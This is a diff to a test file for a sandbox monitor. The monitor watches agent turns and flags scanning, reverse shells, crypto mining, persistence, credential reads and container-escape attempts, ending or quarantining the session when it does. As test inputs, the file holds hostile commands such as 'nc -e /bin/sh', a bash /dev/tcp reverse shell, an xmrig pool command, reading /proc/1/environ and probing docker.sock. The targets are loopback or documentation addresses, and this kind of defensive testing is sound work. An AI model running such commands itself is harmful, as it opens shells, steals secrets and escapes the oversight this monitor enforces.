@@ -20,9 +20,10 @@ def test_egress_attempt(watched):
 
 
 def test_scan(watched):
-    _, events = watched.turn(2, "python3 -c \"import socket\nfor port in range(1000, 1030):\n"
-                                "    s = socket.socket(); s.settimeout(0.05)\n    try: s.connect(('127.0.0.1', port))\n"
-                                "    except OSError: pass\"")
+    # 203.0.113.0/24 has no route from a --network none sandbox: each connect fails at once, but it is traced
+    _, events = watched.turn(2, "python3 -c \"import socket\nfor host in range(1, 13):\n"
+                                "    s = socket.socket(); s.settimeout(0.05)\n"
+                                "    try: s.connect(('203.0.113.%d' % host, 22))\n    except OSError: pass\"")
     scan = [e for e in events if e.category == "network.scan"]
     assert len(scan) == 1 and scan[0].turn == 2 and scan[0].detail["targets"] >= 8
     assert watched.policy.verdict(events).terminate
@@ -45,16 +46,16 @@ def test_reverse_shell_socket_on_stdio(watched):
 def test_reverse_tunnels_by_command_line(watched):
     watched.sandbox.run("mkdir -p bin && printf '#!/bin/sh\\nexit 0\\n' > bin/ssh && cp bin/ssh bin/nc && chmod +x bin/*")
     _, events = watched.turn(4, "bin/ssh -N -R 9000:localhost:22 user@127.0.0.1; bin/nc -e /bin/sh 127.0.0.1 9001; "
-                                "bash -c 'echo hi > /dev/tcp/127.0.0.1/9002' 2>/dev/null; true")
+                                "bash -c 'bash -i >& /dev/tcp/127.0.0.1/9002 0>&1' 2>/dev/null; true")
     rules = {e.rule for e in events if e.category == "network.reverse_shell"}
-    assert rules >= {"ssh-tunnel", "netcat-exec", "dev-tcp"}
+    assert rules >= {"ssh-tunnel", "netcat-exec", "dev-tcp-shell"}
     assert {e.turn for e in events if e.category == "network.reverse_shell"} == {4}
 
 
 def test_mining(watched):
     watched.sandbox.write_file("bin/xmrig", "#!/bin/sh\nsleep 0.2\n", mode=0o755)
-    _, events = watched.turn(5, "bin/xmrig -o stratum+tcp://127.0.0.1:3333 -u wallet --donate-level 1; "
-                                "python3 -c \"import socket; s = socket.socket()\ntry: s.connect(('127.0.0.1', 3333))\n"
+    _, events = watched.turn(5, "bin/xmrig -o stratum+tcp://203.0.113.9:3333 -u wallet --donate-level 1; "
+                                "python3 -c \"import socket; s = socket.socket()\ntry: s.connect(('203.0.113.9', 3333))\n"
                                 "except OSError: pass\"")
     mining = [e for e in events if e.category == "compute.mining"]
     assert {e.rule for e in mining} >= {"miner-binary", "mining-pool-port"} and {e.turn for e in mining} == {5}
@@ -72,7 +73,7 @@ def test_cpu_anomaly_and_persistence(watched):
     survivor = [e for e in events if e.rule == "survivor"]
     assert survivor and survivor[0].turn == 6
     anomaly = [e for e in events if e.category == "compute.anomaly"]
-    assert anomaly[0].detail["cores"] > 0.1 and anomaly[0].turn == 6 and anomaly[0].detail.get("background")
+    assert anomaly[0].detail["cores"] > 0.1 and anomaly[0].turn == 6 and anomaly[0].background
 
 
 def test_credential_access(watched):
@@ -83,11 +84,11 @@ def test_credential_access(watched):
 
 def test_escape_attempts(watched):
     # Syscalls the container's seccomp profile refuses (unshare, mount, setns) never reach the tracepoints; those
-    # attempts show as tools and paths. ptrace passes seccomp (here it targets no process).
+    # attempts show as tools and paths. ptrace passes seccomp (here it attaches to no child of its own).
     _, events = watched.turn(8, "unshare -r true; cat /proc/1/environ; ls /var/run/docker.sock; "
                                 "python3 -c 'import ctypes; ctypes.CDLL(None).ptrace(16, 999999, 0, 0)'; true")
     escape = [e for e in events if e.category == "sandbox.escape"]
-    assert {"escape-syscall", "escape-tools", "escape-paths"} <= {e.rule for e in escape}
+    assert {"ptrace-attach", "escape-tools", "escape-paths"} <= {e.rule for e in escape}
     assert watched.policy.verdict(events).quarantine
 
 
